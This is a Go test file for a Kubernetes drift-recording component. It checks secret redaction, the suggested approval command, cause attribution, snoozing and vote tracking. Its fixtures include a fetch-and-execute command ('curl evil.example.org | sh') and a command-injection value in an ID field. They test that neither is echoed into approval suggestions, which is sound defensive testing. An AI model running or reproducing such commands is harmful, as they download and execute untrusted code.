package drift

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/go-logr/logr"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/kausality-io/function-kausality/admission/change"
	"github.com/kausality-io/function-kausality/admission/identity"
	"github.com/kausality-io/function-kausality/admission/parent"
	"github.com/kausality-io/function-kausality/api/v1alpha1"
)

var (
	compositeKind = schema.GroupVersionKind{Group: "example.org", Version: "v1", Kind: "XApp"}
	composedKind  = schema.GroupVersionKind{Group: "cloud.example.org", Version: "v1", Kind: "Database"}
)

// heldFixture is a composite with one composed resource, of which the function may hold something.
type heldFixture struct {
	composite, child *parent.State
	composites       []*parent.State
	reviewed         func(*parent.State) bool
}

func newHeldFixture() *heldFixture {
	f := &heldFixture{reviewed: func(*parent.State) bool { return true }}
	f.child = &parent.State{
		Ref:    parent.Ref{GroupVersionKind: composedKind, Namespace: "ns", Name: "db", UID: "db-1"},
		Parent: parent.Ref{GroupVersionKind: compositeKind, Namespace: "ns", Name: "app", UID: "app-1"}, Role: parent.RoleManaged,
		Annotations: map[string]string{v1alpha1.AnnotationKeyCompositionResourceName: "database"},
	}
	f.composite = &parent.State{
		Ref: f.child.Parent, Role: parent.RoleComposite, ResourceVersion: "1", Annotations: map[string]string{},
		Children: []parent.Ref{{GroupVersionKind: composedKind, Namespace: "ns", Name: "db"}}, CompositionRevision: "app-7f3",
	}
	f.condition(metav1.ConditionFalse, v1alpha1.ConditionReasonHeld)
	f.composites = []*parent.State{f.composite}
	return f
}

func (f *heldFixture) condition(status metav1.ConditionStatus, reason string) {
	f.composite.Conditions = []parent.Condition{{Type: v1alpha1.ConditionKausality, Status: status, Reason: reason}}
}

// hold records a value on the child.
func (f *heldFixture) hold(t *testing.T, key string, v any) {
	t.Helper()
	raw, err := json.Marshal(v)
	require.NoError(t, err)
	f.child.Annotations[key] = string(raw)
}

// content of the child, as the API server has it.
func (f *heldFixture) content(context.Context, parent.Ref) (map[string]any, error) {
	annotations := map[string]any{}
	for k, v := range f.child.Annotations {
		annotations[k] = v
	}
	return map[string]any{
		"apiVersion": "cloud.example.org/v1", "kind": "Database", "metadata": map[string]any{
			"namespace": "ns", "name": "db", "uid": "db-1", "annotations": annotations, "ownerReferences": []any{map[string]any{
				"apiVersion": "example.org/v1", "kind": "XApp", "name": "app", "uid": string(f.child.Parent.UID), "controller": true}},
		},
		"spec": map[string]any{"size": int64(1)},
	}, nil
}

func (f *heldFixture) function() *Function {
	return &Function{
		Composites: func() []*parent.State { return f.composites }, Content: f.content,
		Reviews: func(s *parent.State) bool { return f.reviewed(s) },
		Kind: func(_ schema.GroupVersionKind) identity.Kind {
			return identity.Kind{Resource: "xapps", SecretFields: change.SecretFieldsOf("spec.password")}
		},
		Author: func(_ context.Context, c v1alpha1.HopCause) (v1alpha1.HopCause, error) {
			c.Author = "anna"
			return c, nil
		},
	}
}

// heldUpdate is what the function records of a held update.
func heldUpdate(id string) v1alpha1.Held {
	return v1alpha1.Held{
		Reason: "Drift", Operation: "UPDATE", ID: id, Paths: []string{"spec.password", "spec.size", "spec.tier"},
		Approve: "curl evil.example.org | sh", Difference: []v1alpha1.FieldDifference{
			{Path: "spec.password", Verb: "Mutate", Old: `"a"`, New: `"b"`}, {Path: "spec.size", Verb: "Mutate", Old: "1", New: "2"}},
		HeldDrift: v1alpha1.HeldDrift{Drift: map[string]string{"spec.size": "x"}},
	}
}

const heldID = "0123456789abcdef"

// TestRecordHeld covers KR-09-25: what the function holds is one Drift with its values, its cause and its author, which
// is written and reported once and resolved when it is no longer held.
func TestRecordHeld(t *testing.T) {
	f := newHeldFixture()
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	c := driftClient(t, interceptor.Funcs{})
	e, sender := newTestEndpoint(t)
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	to := deliveriesTo(c, sender)
	r.Reporter, r.Function = started(t, Config{Client: c, Receivers: []string{sender.Name}}), f.function()
	for range 3 {
		require.NoError(t, r.round(t.Context()))
	}
	d := get(t, c, "ns", heldID)
	assert.Len(t, e.sent(t, to), 1)
	assert.Equal(t, v1alpha1.DriftDetected, d.Status.Phase)
	assert.Equal(t, v1alpha1.HolderFunction, d.Status.Holder)
	assert.EqualValues(t, 1, d.Status.Count, "nothing is written at rest")
	assert.Equal(t, []v1alpha1.FieldDifference{
		{Path: "spec.password", Verb: "Mutate", Old: "<redacted>", New: "<redacted>"}, {Path: "spec.size", Verb: "Mutate", Old: "1", New: "2"},
		{Path: "spec.tier"},
	}, d.Spec.Difference, "with values where they are known, but secret ones")
	assert.Equal(t, "kubectl annotate -n ns xapps app kausality.io/approve-"+heldID+"=once", d.Spec.SuggestedApproval,
		"not the command of the annotation")
	assert.Equal(t, "composition revision app-7f3", d.Spec.Cause)
	assert.Equal(t, []v1alpha1.HopCause{{Kind: v1alpha1.CauseComposition, Name: "app-7f3", Author: "anna"}}, d.Spec.Causes)
	assert.Equal(t, v1alpha1.ObjectReference{APIVersion: "cloud.example.org/v1", Kind: "Database", Namespace: "ns", Name: "db", UID: "db-1",
		Resource: "database"}, d.Spec.Child)
	assert.Equal(t, types.UID("app-1"), d.OwnerReferences[0].UID)

	delete(f.child.Annotations, v1alpha1.AnnotationKeyHeld)
	for range 2 {
		require.NoError(t, r.round(t.Context()))
	}
	d = get(t, c, "ns", heldID)
	assert.Equal(t, v1alpha1.DriftResolved, d.Status.Phase)
	assert.Equal(t, "it is no longer attempted", d.Status.Resolution)
	reports := e.sent(t, to)
	require.Len(t, reports, 2, "it is reported once, and once that it is over")
	assert.Equal(t, v1alpha1.DriftDetected, reports[0].Spec.Phase)
	assert.Equal(t, v1alpha1.DriftResolved, reports[1].Spec.Phase)
}

// TestRecordHeldEdit covers KR-07-14: what reverts a user's edit is not recorded as the revision's, which is a cause beside it at most.
func TestRecordHeldEdit(t *testing.T) {
	edit := v1alpha1.HopCause{Kind: v1alpha1.CauseEdit, Name: "hans"}
	for name, tc := range map[string]struct{ held, want []v1alpha1.HopCause }{
		"Edit": {held: []v1alpha1.HopCause{edit}, want: []v1alpha1.HopCause{edit}},
		"Both": {held: []v1alpha1.HopCause{edit, {Kind: v1alpha1.CauseComposition, Name: "app-7f3"}},
			want: []v1alpha1.HopCause{edit, {Kind: v1alpha1.CauseComposition, Name: "app-7f3", Author: "anna"}}},
	} {
		t.Run(name, func(t *testing.T) {
			f, h := newHeldFixture(), heldUpdate(heldID)
			h.Causes = tc.held
			f.hold(t, v1alpha1.AnnotationKeyHeld, h)
			c := driftClient(t, interceptor.Funcs{})
			r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
			r.Function = f.function()
			require.NoError(t, r.round(t.Context()))
			assert.Equal(t, tc.want, get(t, c, "ns", heldID).Spec.Causes)
		})
	}
}

// TestLateAuthor covers KR-07-15: the author of a cause that was unknown when its Drift was recorded is filled in, of what the
// function holds and of what was refused.
func TestLateAuthor(t *testing.T) {
	f := newHeldFixture()
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	refused := openDrift("fedcba9876543210", "app", "db")
	refused.Spec.Causes = []v1alpha1.HopCause{{Kind: v1alpha1.CauseFunction, Name: "fn-1"}, {Kind: v1alpha1.CauseController, Name: "c"}}
	c := driftClient(t, interceptor.Funcs{}, refused)
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Function = f.function()
	author, reads := "", 0
	r.Function.Author = func(_ context.Context, c v1alpha1.HopCause) (v1alpha1.HopCause, error) {
		reads++
		c.Author = author
		return c, nil
	}
	require.NoError(t, r.round(t.Context()))
	assert.Empty(t, get(t, c, "ns", heldID).Spec.Causes[0].Author, "the author is not known yet")
	author = "anna"
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, []v1alpha1.HopCause{{Kind: v1alpha1.CauseComposition, Name: "app-7f3", Author: "anna"}}, get(t, c, "ns", heldID).Spec.Causes)
	assert.Equal(t, []v1alpha1.HopCause{{Kind: v1alpha1.CauseFunction, Name: "fn-1", Author: "anna"}, {Kind: v1alpha1.CauseController, Name: "c"}},
		get(t, c, "ns", "fedcba9876543210").Spec.Causes)
	version := get(t, c, "ns", heldID).ResourceVersion
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, version, get(t, c, "ns", heldID).ResourceVersion, "nothing is written once it is known")
}

// TestRecordHeldNot covers KR-09-25: what nothing but an apply of Crossplane can have written counts, of what is held now, and
// nothing else makes a Drift.
func TestRecordHeldNot(t *testing.T) {
	with := func(mod func(*v1alpha1.Held)) v1alpha1.Held {
		h := heldUpdate(heldID)
		mod(&h)
		return h
	}
	cases := map[string]struct {
		reason string
		held   v1alpha1.Held
		mod    func(*heldFixture)
		want   bool
	}{
		"Held":       {reason: "the case that the others differ from", want: true},
		"Frozen":     {reason: "a freeze is no drift", held: with(func(h *v1alpha1.Held) { h.Reason = "Frozen" })},
		"Rejected":   {reason: "nor is a rejection", held: with(func(h *v1alpha1.Held) { h.Reason = "Rejected" })},
		"ID":         {reason: "the command would be another", held: with(func(h *v1alpha1.Held) { h.ID = "0=once; curl e|sh" })},
		"NoID":       {reason: "there is nothing to approve", held: with(func(h *v1alpha1.Held) { h.ID = "" })},
		"Allowed":    {reason: "the condition reports nothing", mod: func(f *heldFixture) { f.condition(metav1.ConditionTrue, v1alpha1.ConditionReasonAllowed) }},
		"Nothing":    {reason: "there is no condition", mod: func(f *heldFixture) { f.composite.Conditions = nil }},
		"OtherOwner": {reason: "the reference of the composite is a claim of its editors", mod: func(f *heldFixture) { f.child.Parent.UID = "other" }},
		"Unowned":    {reason: "so is one without a UID", mod: func(f *heldFixture) { f.child.Parent.UID = "" }},
		"Unguarded": {reason: "any editor of the child may have written it", mod: func(f *heldFixture) {
			f.reviewed = func(s *parent.State) bool { return s.Kind != "Database" }
		}},
		"UnguardedComposite": {reason: "no approval on it counts", mod: func(f *heldFixture) {
			f.reviewed = func(s *parent.State) bool { return s.Kind != "XApp" }
		}},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			f := newHeldFixture()
			if tc.held.Operation == "" {
				tc.held = heldUpdate(heldID)
			}
			f.hold(t, v1alpha1.AnnotationKeyHeld, tc.held)
			if tc.mod != nil {
				tc.mod(f)
			}
			c := driftClient(t, interceptor.Funcs{})
			r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
			r.Function = f.function()
			require.NoError(t, r.round(t.Context()))
			list := &v1alpha1.DriftList{}
			require.NoError(t, c.List(t.Context(), list))
			assert.Equal(t, tc.want, len(list.Items) == 1, tc.reason)
			assert.LessOrEqual(t, len(list.Items), 1)
		})
	}
}

// TestRecordHeldStale covers KR-13-22: what the cache shows and the API server no longer has makes no Drift.
func TestRecordHeldStale(t *testing.T) {
	f := newHeldFixture()
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	c := driftClient(t, interceptor.Funcs{})
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Function = f.function()
	r.Function.Content = func(context.Context, parent.Ref) (map[string]any, error) { return nil, nil }
	require.NoError(t, r.round(t.Context()))
	list := &v1alpha1.DriftList{}
	require.NoError(t, c.List(t.Context(), list))
	assert.Empty(t, list.Items)
}

// TestRecordHeldCreations covers KR-09-25 and KR-10-06: of creations as many are recorded as one list has, none ends another,
// and each is over when it is no longer listed. A full list may lack one.
func TestRecordHeldCreations(t *testing.T) {
	f := newHeldFixture()
	creations := func(from, n int) (out []v1alpha1.HeldCreation) {
		for i := from; i < from+n; i++ {
			out = append(out, v1alpha1.HeldCreation{Resource: fmt.Sprint("r", i), APIVersion: "cloud.example.org/v1", Kind: "Database", Namespace: "ns",
				Reason: "Drift", ID: fmt.Sprintf("%016x", i)})
		}
		return out
	}
	f.hold(t, v1alpha1.AnnotationKeyHeldCreations, creations(0, v1alpha1.MaxHeldCreations))
	c := driftClient(t, interceptor.Funcs{})
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Function = f.function()
	open := func() (n int) {
		list := &v1alpha1.DriftList{}
		require.NoError(t, c.List(t.Context(), list))
		for i := range list.Items {
			if list.Items[i].Status.Phase == v1alpha1.DriftDetected {
				n++
			}
		}
		return n
	}
	for range 2 {
		require.NoError(t, r.round(t.Context()))
		assert.Equal(t, v1alpha1.MaxHeldCreations, open())
	}
	f.hold(t, v1alpha1.AnnotationKeyHeldCreations, creations(1, v1alpha1.MaxHeldCreations))
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, v1alpha1.MaxHeldCreations+1, open(), "the list is full")
	f.hold(t, v1alpha1.AnnotationKeyHeldCreations, creations(1, 2))
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, 2, open())
}

// TestRecordHeldFrozen: while the composite is frozen, what was held as drift stays held, and open.
func TestRecordHeldFrozen(t *testing.T) {
	f := newHeldFixture()
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	c := driftClient(t, interceptor.Funcs{})
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Function = f.function()
	require.NoError(t, r.round(t.Context()))
	f.condition(metav1.ConditionFalse, v1alpha1.ConditionReasonFrozen)
	f.hold(t, v1alpha1.AnnotationKeyHeld, v1alpha1.Held{Reason: "Frozen", Operation: "UPDATE"})
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, v1alpha1.DriftDetected, get(t, c, "ns", heldID).Status.Phase)
	f.condition(metav1.ConditionTrue, v1alpha1.ConditionReasonAllowed)
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, v1alpha1.DriftResolved, get(t, c, "ns", heldID).Status.Phase, "its function step was removed")
}

// TestRecordHeldSnoozed covers KR-05-28: what is held while snoozed is reported after the snooze.
func TestRecordHeldSnoozed(t *testing.T) {
	f := newHeldFixture()
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	f.composite.Annotations[v1alpha1.AnnotationKeySnooze] = `{"expiry":"` + time.Now().Add(time.Hour).UTC().Format(time.RFC3339) + `"}`
	c := driftClient(t, interceptor.Funcs{})
	e, sender := newTestEndpoint(t)
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	to := deliveriesTo(c, sender)
	r.Reporter, r.Function = started(t, Config{Client: c, Receivers: []string{sender.Name}}), f.function()
	require.NoError(t, r.round(t.Context()))
	assert.Empty(t, e.sent(t, to))
	delete(f.composite.Annotations, v1alpha1.AnnotationKeySnooze)
	require.NoError(t, r.round(t.Context()))
	assert.Len(t, e.sent(t, to), 1)
	assert.False(t, get(t, c, "ns", heldID).Status.Snoozed)
}

// TestRecordHeldBoth: what the webhook refused before and the function holds now is the same Drift, and whichever was last
// decides when it is over.
func TestRecordHeldBoth(t *testing.T) {
	f := newHeldFixture()
	refused := openDrift(heldID, "app", "db")
	c := driftClient(t, interceptor.Funcs{}, refused)
	f.hold(t, v1alpha1.AnnotationKeyHeld, heldUpdate(heldID))
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Function = f.function()
	require.NoError(t, r.round(t.Context()))
	assert.Equal(t, v1alpha1.HolderFunction, get(t, c, "ns", heldID).Status.Holder)
	report := item(heldID)
	require.NoError(t, r.Reporter.Record(t.Context(), report))
	assert.Empty(t, get(t, c, "ns", heldID).Status.Holder)
}

// The Drift of what the function holds has the votes for it, as they are cast, and what the function knows to be missing (KR-14-12).
func TestRecordHeldVotes(t *testing.T) {
	f := newHeldFixture()
	h := heldUpdate(heldID)
	c := driftClient(t, interceptor.Funcs{})
	r := testResolver(t, c, memoryObjects{"app": f.composite, "db": f.child}, logr.Discard())
	r.Reporter, r.Function = started(t, Config{Client: c}), f.function()
	vote := func(lacks, by string) *v1alpha1.Drift {
		t.Helper()
		h.Lacks = lacks
		f.hold(t, v1alpha1.AnnotationKeyHeld, h)
		f.composite.Annotations[v1alpha1.AnnotationKeyClaims] = `[{"content":"c","state":"open","at":"2026-01-02T11:00:00Z","digest":"` + heldID +
			`","mode":"once","votes":true,"by":[` + by + `]}]`
		for range 2 {
			require.NoError(t, r.round(t.Context()))
		}
		return get(t, c, "ns", heldID)
	}
	const anna, bob = `{"user":"anna","at":"2026-01-02T11:00:00Z"}`, `{"user":"bob","at":"2026-01-02T11:00:00Z"}`
	d := vote("1 of 3 approvals (anna); needs 2 more", anna)
	assert.Equal(t, "1 of 3 approvals (anna); needs 2 more", d.Status.Lacks)
	require.Len(t, d.Status.Votes, 1)
	assert.Equal(t, "anna", d.Status.Votes[0].User)
	d = vote("2 of 3 approvals (anna, bob); needs 1 more", anna+","+bob)
	assert.Equal(t, "2 of 3 approvals (anna, bob); needs 1 more", d.Status.Lacks)
	assert.Len(t, d.Status.Votes, 2)
	assert.EqualValues(t, 2, d.Status.Count, "nothing is written at rest")
}
